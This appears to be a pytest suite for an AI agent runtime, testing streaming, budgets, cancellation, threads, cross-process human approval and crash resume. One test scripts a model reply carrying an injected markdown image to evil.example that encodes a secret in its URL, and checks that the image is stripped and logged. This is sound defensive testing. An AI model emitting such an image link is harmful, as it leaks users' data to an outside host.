"""The runtime: streaming, budgets, cancellation, threads, approvals across processes, crash resume."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from fakes.vllm_server import FakeVLLM, Reply
from sdk_support import BLOCK_FILE, crash_agent, kinds, make_runtime, text_reply, tool_reply

from sovra.agents.sdk import define_agent
from sovra.errors import ApprovalError, InputError
from sovra.runtime import Budget, Runtime
from sovra.tools.base import tool
from sovra.tools.cases import list_cases, open_case

TESTS = Path(__file__).resolve().parents[1]


@pytest.fixture
def fake() -> Iterator[FakeVLLM]:
    f = FakeVLLM()
    yield f
    f.close()


@tool
def lookup(key: str) -> str:
    """Look a key up."""
    return f"value of {key}"


looper = define_agent("looper", "Looks things up.", tools=[lookup], max_steps=50)
cases_agent = define_agent("cases", "Opens follow-up cases.", tools=[open_case])


# ---------------------------------------------------------------------- streaming


def test_stream_yields_steps_as_nodes_finish_then_tokens_then_the_answer(tmp_path, fake):
    agent = define_agent("s", "S.", tools=[lookup], tool_mode="json")
    fake.script = [
        Reply(content='{"tool": "lookup", "args": {"key": "k"}}'),
        Reply(content='{"tool": "final_answer"}'),
        Reply(content="The value is known."),  # the final answer, streamed by the server word by word
    ]
    rt = make_runtime(tmp_path, fake)
    events = list(rt.stream(agent, "What is k?", "alice"))
    order = [(e.kind, e.data.get("name")) for e in events]
    assert order[:3] == [("step", "agent"), ("step", "tools"), ("step", "agent")]
    tokens = [e.data["text"] for e in events if e.kind == "token"]
    assert "".join(tokens) == "The value is known." and len(tokens) == 4  # one per word from the server
    first_token = next(i for i, e in enumerate(events) if e.kind == "token")
    assert order[first_token - 1] == ("step", "agent") and order[-2] == ("step", "respond")
    assert events[-1].kind == "answer" and events[-1].data["answer"].text == "The value is known."
    assert fake.chat_bodies()[-1]["stream"] is True
    assert {e.run_id for e in events} == {events[-1].data["answer"].run_id}
    rt.close()


def test_streamed_tokens_are_sanitised_like_the_answer(tmp_path, fake):
    """A client renders tokens as they come: an injected image must not appear there either."""
    agent = define_agent("s", "S.", tools=[lookup], tool_mode="json")
    fake.script = [
        Reply(content='{"tool": "lookup", "args": {"key": "k"}}'),
        Reply(content='{"tool": "final_answer"}'),
        Reply(content="The value ![x](https://evil.example/p.png?d=SECRET) is known [1]."),
    ]
    rt = make_runtime(tmp_path, fake)
    events = list(rt.stream(agent, "What is k?", "alice"))
    shown = "".join(e.data["text"] for e in events if e.kind == "token")
    assert shown == "The value  is known [1]."
    answer = events[-1].data["answer"]
    assert "evil.example" not in answer.text
    recs = [r for r in rt.services.audit.records(answer.run_id) if r.kind == "security.stream_sanitized"]
    assert recs and recs[0].data["removed"] == ["![x](https://evil.example/p.png?d=SECRET)"]
    rt.close()


# ---------------------------------------------------------------------- budgets


def _endless_lookups(fake: FakeVLLM, n: int = 30) -> None:
    fake.script = [tool_reply("lookup", key=f"k{i}") for i in range(n)]


def test_step_budget_stops_the_run_with_a_clear_status(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    a = rt.ask(looper, "Look everything up", "alice", budget=Budget(max_steps=5))
    assert a.status == "budget_exceeded" and "more than 5 steps" in a.text
    recs = rt.services.audit.records(a.run_id)
    exceeded = next(r for r in recs if r.kind == "run.budget_exceeded")
    assert exceeded.data["steps"] == 6
    assert recs[-1].kind == "run.end" and recs[-1].data["answer"]["status"] == "budget_exceeded"
    assert len(fake.chat_bodies()) == 3  # agent, tools, agent, tools, agent, tools: stopped at step 6
    rt.close()


def test_token_budget_uses_the_gateway_usage(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    # Below what the first decision uses (an SDK agent stops asking before a call that would not fit).
    a = rt.ask(looper, "Look everything up", "alice", budget=Budget(max_tokens=10))
    assert a.status == "budget_exceeded" and "model tokens" in a.text and "budget is 10" in a.text
    used = sum(
        (r.data["input_tokens"] or 0) + (r.data["output_tokens"] or 0)
        for r in rt.services.audit.records(a.run_id)
        if r.kind == "model.call"
    )
    assert used > 10
    assert rt.runs.get(a.run_id).tokens == used
    rt.close()


def test_wall_time_budget(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    a = rt.ask(looper, "Look everything up", "alice", budget=Budget(max_seconds=0.0))
    assert a.status == "budget_exceeded" and "budget is 0 s" in a.text
    assert len(fake.chat_bodies()) <= 1
    rt.close()


def test_default_budget_comes_from_settings(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake, run_max_steps=3)
    a = rt.ask(looper, "Look everything up", "alice")
    assert a.status == "budget_exceeded" and "more than 3 steps" in a.text
    rt.close()


def test_agent_max_steps_caps_tool_rounds(tmp_path, fake):
    """Past max_steps the model is not asked again: the answer is made from what the tools returned
    (here results without a source, so no answer is claimed), saying so; the run is not 'stopped'."""
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    a = rt.ask(define_agent("l2", "L.", tools=[lookup], max_steps=2), "Look everything up", "alice")
    assert a.status == "not_found" and len(fake.chat_bodies()) == 2
    assert "called tools 2 times without finishing" in a.notes[0] and "lookup(" in a.notes[-1]
    stopped = next(r for r in rt.services.audit.records(a.run_id) if r.kind == "agent.stopped")
    assert stopped.data["rounds"] == 2
    rt.close()


# ---------------------------------------------------------------------- cancellation


def test_cancel_stops_a_running_run_at_its_next_step(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    events = []
    for ev in rt.stream(looper, "Look everything up", "alice"):
        events.append(ev)
        if ev.kind == "step" and ev.data["name"] == "tools":
            rt.cancel(ev.run_id)
    a = events[-1].data["answer"]
    assert a.status == "cancelled"
    assert [e.data.get("name") for e in events if e.kind == "step"] == ["agent", "tools"]
    assert "run.cancelled" in kinds(rt, a.run_id) and rt.runs.get(a.run_id).status == "cancelled"
    rt.close()


def test_cancel_from_another_runtime_instance(tmp_path, fake):
    _endless_lookups(fake)
    rt = make_runtime(tmp_path, fake)
    other = make_runtime(tmp_path, fake)
    for ev in rt.stream(looper, "Look everything up", "alice"):
        if ev.kind == "step" and ev.data["name"] == "agent":
            other.cancel(ev.run_id)
    assert ev.kind == "answer" and ev.data["answer"].status == "cancelled"
    rt.close()
    other.close()


def test_cancel_a_run_waiting_for_approval(tmp_path, fake):
    fake.script = [tool_reply("open_case", counterparty="Acme", summary="x", amount=1)]
    rt = make_runtime(tmp_path, fake, cases_agent)
    a = rt.ask(cases_agent, "Open a case", "bob")
    rt.cancel(a.run_id)
    assert rt.pending_approval(a.run_id) is None and rt.runs.get(a.run_id).status == "cancelled"
    with pytest.raises(ApprovalError, match="not waiting"):
        rt.resume(a.run_id, "erin", approved=True)
    rt.close()


# ---------------------------------------------------------------------- threads


def test_a_thread_carries_earlier_turns_to_the_agent(tmp_path, fake):
    agent = define_agent("chat", "Chats.")
    fake.script = [text_reply("Your name is Ada, noted."), text_reply("You told me: Ada.")]
    rt = make_runtime(tmp_path, fake)
    first = rt.ask(agent, "My name is Ada.", "alice", thread_id="t-1")
    second = rt.ask(agent, "What is my name?", "alice", thread_id="t-1")
    assert first.thread_id == second.thread_id == "t-1" and first.run_id != second.run_id
    sent = [m["content"] for m in fake.chat_bodies()[1]["messages"]]
    assert sent[1:] == ["My name is Ada.", "Your name is Ada, noted.", "What is my name?"]
    # Another thread starts empty.
    fake.script = [text_reply("I do not know.")]
    rt.ask(agent, "What is my name?", "alice", thread_id="t-2")
    assert [m["content"] for m in fake.chat_bodies()[2]["messages"]][1:] == ["What is my name?"]
    assert "run.thread" in kinds(rt, second.run_id)
    # A thread's history belongs to its user: nobody else may continue it.
    with pytest.raises(InputError, match="belongs to another user"):
        rt.ask(agent, "What did alice say?", "bob", thread_id="t-1")
    rt.close()


def test_a_thread_waiting_for_approval_takes_no_new_question(tmp_path, fake):
    fake.script = [tool_reply("open_case", counterparty="Acme", summary="x", amount=1)]
    rt = make_runtime(tmp_path, fake, cases_agent)
    a = rt.ask(cases_agent, "Open a case", "bob", thread_id="conv")
    with pytest.raises(ApprovalError, match="waiting for approval"):
        rt.ask(cases_agent, "And another", "bob", thread_id="conv")
    assert a.status == "awaiting_approval"
    rt.close()


# ---------------------------------------------------------------------- approvals


def _paused(tmp_path: Path, fake: FakeVLLM, user: str = "bob") -> tuple[Runtime, str]:
    fake.script = [tool_reply("open_case", counterparty="Acme", summary="paid twice in March", amount=8500)]
    rt = make_runtime(tmp_path, fake, cases_agent)
    a = rt.ask(cases_agent, "Acme was paid twice in March; open a case", user)
    assert a.status == "awaiting_approval" and list_cases(rt.settings) == []
    rt.close()
    return rt, a.run_id


def test_approval_from_a_new_runtime_is_recorded_with_who_when_why(tmp_path, fake):
    _, run_id = _paused(tmp_path, fake)
    rt = make_runtime(tmp_path, fake, cases_agent)  # as if another process (the CLI)
    pending = rt.pending_approval(run_id)
    assert pending.tool == "open_case" and pending.requested_for == "bob" and "Acme" in pending.description
    assert [p.run_id for p in rt.pending()] == [run_id]
    fake.script = [text_reply("Case 1 opened for Acme.")]
    a = rt.resume(run_id, "erin", approved=True, reason="double payment confirmed in the ledger")
    assert a.status == "answered" and a.text == "Case 1 opened for Acme."
    [case] = list_cases(rt.settings)
    assert case["counterparty"] == "Acme" and case["opened_by"] == "bob" and case["run_id"] == run_id
    recs = rt.services.audit.records(run_id)
    ks = [r.kind for r in recs]
    assert ks.index("run.paused") < ks.index("approval.decision") < ks.index("tool.open_case") < ks.index("run.end")
    assert ks.count("run.start") == 1 and "run.resume" in ks
    d = next(r for r in recs if r.kind == "approval.decision").data
    assert d["approver"] == "erin" and d["approved"] is True and d["reason"].startswith("double payment")
    assert d["at"].endswith("+00:00") and d["tool"] == "open_case"
    assert rt.services.audit.verify().ok
    assert rt.pending_approval(run_id) is None
    with pytest.raises(ApprovalError, match="not waiting"):
        rt.resume(run_id, "erin", approved=True)
    rt.close()


def test_refusal_from_a_new_runtime_is_recorded_and_nothing_happens(tmp_path, fake):
    _, run_id = _paused(tmp_path, fake)
    rt = make_runtime(tmp_path, fake, cases_agent)
    with pytest.raises(ApprovalError, match="needs a reason"):
        rt.resume(run_id, "erin", approved=False)
    fake.script = [text_reply("The case was not opened.")]
    a = rt.resume(run_id, "erin", approved=False, reason="already refunded")
    assert a.status == "not_found" and list_cases(rt.settings) == []
    assert a.text == "No answer: no tool call succeeded: open_case: refused: erin refused: already refunded."
    recs = rt.services.audit.records(run_id)
    d = next(r for r in recs if r.kind == "approval.decision").data
    assert d["approved"] is False and d["approver"] == "erin" and d["reason"] == "already refunded"
    assert "tool.refused" in [r.kind for r in recs] and "tool.open_case" not in [r.kind for r in recs]
    assert "erin refused: already refunded" in fake.chat_bodies()[-1]["messages"][-1]["content"]
    rt.close()


def test_only_the_requester_or_an_approver_may_decide(tmp_path, fake):
    _, run_id = _paused(tmp_path, fake)
    rt = make_runtime(tmp_path, fake, cases_agent)
    with pytest.raises(ApprovalError, match="may not decide"):
        rt.resume(run_id, "mallory", approved=True, reason="trust me")
    assert rt.pending_approval(run_id) is not None
    assert "approval.decision" not in kinds(rt, run_id)
    rt.close()


# ---------------------------------------------------------------------- crash safety


@pytest.mark.slow  # a second Python process
def test_a_run_killed_mid_way_resumes_from_its_last_checkpoint(tmp_path, fake):
    block = tmp_path / "block"
    block.write_text("x")
    child_fake = FakeVLLM(script=[tool_reply("slow_lookup", account="ACC-1")])
    data_dir = tmp_path / "data"
    code = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        sys.path.insert(0, {str(TESTS)!r})
        from sdk_support import crash_agent, sdk_settings
        from sovra.runtime import Runtime
        rt = Runtime(sdk_settings(Path({str(data_dir)!r}), {child_fake.base_url!r}))
        rt.ask(crash_agent(), "What is the balance of ACC-1?", "alice")
        """
    )
    env = {**os.environ, BLOCK_FILE: str(block)}
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, env=env, text=True)
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == "READY"  # inside the tool, after the model's decision
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        proc.kill()
        child_fake.close()
    block.unlink()
    agent = crash_agent()
    rt = make_runtime(tmp_path, fake, agent)
    row = rt.runs.get(rt.services.audit.last_run_id())
    assert row.status == "running" and not row.process_alive()
    fake.script = [text_reply("The balance of ACC-1 is 42.00.")]
    a = rt.resume_crashed(row.run_id)
    assert a.status == "answered" and a.text == "The balance of ACC-1 is 42.00."
    # The model's first decision was not asked again: only the step after the tool call was.
    assert len(fake.chat_bodies()) == 1
    assert "balance of ACC-1: 42.00" in fake.chat_bodies()[0]["messages"][-1]["content"]
    ks = kinds(rt, row.run_id)
    assert ks[0] == "run.start" and "run.resume" in ks and ks[-1] == "run.end" and ks.count("run.start") == 1
    with pytest.raises(Exception, match="not an interrupted run"):
        rt.resume_crashed(row.run_id)
    rt.close()


# ---------------------------------------------------------------------- PostgreSQL checkpoints


@pytest.mark.skipif(not os.environ.get("SOVRA_TEST_POSTGRES_URL"), reason="SOVRA_TEST_POSTGRES_URL not set")
def test_postgres_checkpoints_approval_from_a_new_runtime(tmp_path, fake):
    url = os.environ["SOVRA_TEST_POSTGRES_URL"]
    fake.script = [tool_reply("open_case", counterparty="Globex", summary="missing invoice", amount=120)]
    rt = make_runtime(tmp_path, fake, cases_agent, checkpoint_url=url)
    assert rt.runs.pg_url and rt.runs.pg_url.startswith("postgresql://")
    a = rt.ask(cases_agent, "Open a case for Globex", "bob")
    assert a.status == "awaiting_approval"
    rt.close()
    (tmp_path / "data" / "checkpoints.sqlite").unlink(missing_ok=True)  # nothing may come from SQLite
    rt2 = make_runtime(tmp_path, fake, cases_agent, checkpoint_url=url)
    assert rt2.pending_approval(a.run_id).args["counterparty"] == "Globex"
    fake.script = [text_reply("Opened.")]
    b = rt2.resume(a.run_id, "erin", approved=True, reason="ok")
    assert b.status == "answered" and [c["counterparty"] for c in list_cases(rt2.settings)] == ["Globex"]
    assert not (tmp_path / "data" / "checkpoints.sqlite").exists()
    rt2.close()
